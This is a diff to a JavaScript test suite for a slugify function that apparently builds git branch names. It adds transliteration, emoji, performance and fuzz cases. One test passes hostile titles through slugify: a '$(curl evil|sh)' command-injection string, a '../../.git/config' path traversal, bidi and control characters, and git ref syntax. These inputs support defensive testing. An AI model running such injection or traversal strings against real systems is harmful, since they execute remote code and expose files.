@@ -27,6 +27,58 @@ describe('slugify', () => {
     expect(slugify('ﬁle ①')).toBe('file-1');
   });
 
+  it('transliterates Cyrillic, Greek and other alphabets into readable ASCII words', () => {
+    expect(slugify('Ошибка при сборке проекта')).toBe('oshibka-pri-sborke-proekta');
+    expect(slugify('Σφάλμα στη δοκιμή')).toBe('sfalma-sti-dokimi');
+    expect(slugify('Помилка: ґанок і їжак')).toMatch(/^pomilka-/);
+    expect(slugify('Über große Dateien')).toBe('ueber-grosse-dateien');
+    expect(slugify('Ünïcödé ẞ İstanbul')).toMatch(SAFE);
+  });
+
+  it('drops what has no ASCII spelling (CJK, emoji) and keeps the rest', () => {
+    expect(slugify('ビルド失敗 build failed 🔥🔥')).toBe('build-failed');
+    expect(slugify('🐛🦄♥ 🚀')).toBe('');
+    expect(slugify('fix ♥ 🦄 login')).toBe('fix-login');
+  });
+
+  it('folds compatibility forms before transliterating: ligatures, full-width, circled digits', () => {
+    expect(slugify('ｆｕｌｌ ｗｉｄｔｈ １２３')).toBe('full-width-123');
+    expect(slugify('ﬀ ﬂ ②')).toBe('ff-fl-2');
+  });
+
+  // Edge cases from @sindresorhus/slugify's own suite, with the options autoheal uses.
+  it('reads a title the way the library does: `&` as a word, contractions, no decamelizing', () => {
+    expect(slugify('Foo & Bar')).toBe('foo-and-bar');
+    expect(slugify("Don't break Conway's Law")).toBe('dont-break-conways-law');
+    expect(slugify('fooBar APIUsage')).toBe('foobar-apiusage');
+    expect(slugify('foo_bar--baz__')).toBe('foo-bar-baz');
+  });
+
+  it('keeps hostile titles out of the ref: controls, bidi overrides, paths, ref syntax', () => {
+    for (const title of [
+      'x\u0000y\u202Ez\u2066w',
+      '../../.git/config',
+      'refs/heads/main@{0}~1^2:..lock',
+      '$(curl evil|sh) `id` ${IFS}',
+      '\u200B\u200D\uFEFF',
+      'a'.repeat(5000) + ' tail',
+      '-1'.repeat(20_000) + 'a',
+    ]) {
+      const slug = slugify(title);
+      expect(slug).toMatch(SAFE);
+      expect(slug.length).toBeLessThanOrEqual(MAX_SLUG_LENGTH);
+    }
+    expect(slugify('x\u0000y\u202Ez')).toBe('x-y-z');
+    expect(slugify('../../.git/config')).toBe('git-config');
+  });
+
+  it('stays fast on long runs the library once handled in quadratic time', () => {
+    const started = performance.now();
+    slugify(`${'-1'.repeat(200_000)}a`);
+    slugify('A'.repeat(200_000));
+    expect(performance.now() - started).toBeLessThan(500);
+  });
+
   it('is empty when the text has no letter or digit', () => {
     expect(slugify('!!! ??? ---')).toBe('');
     expect(slugify('日本語のタイトル')).toBe('');
@@ -53,7 +105,7 @@ describe('slugify', () => {
     };
     for (let i = 0; i < 500; i++) {
       const length = rand() % 80;
-      const text = Array.from({ length }, () => String.fromCodePoint(rand() % 0x3000)).join('');
+      const text = Array.from({ length }, () => String.fromCodePoint(rand() % 0x11_0000)).join('');
       const slug = slugify(text);
       expect(slug).toMatch(SAFE);
       expect(slug.length).toBeLessThanOrEqual(MAX_SLUG_LENGTH);
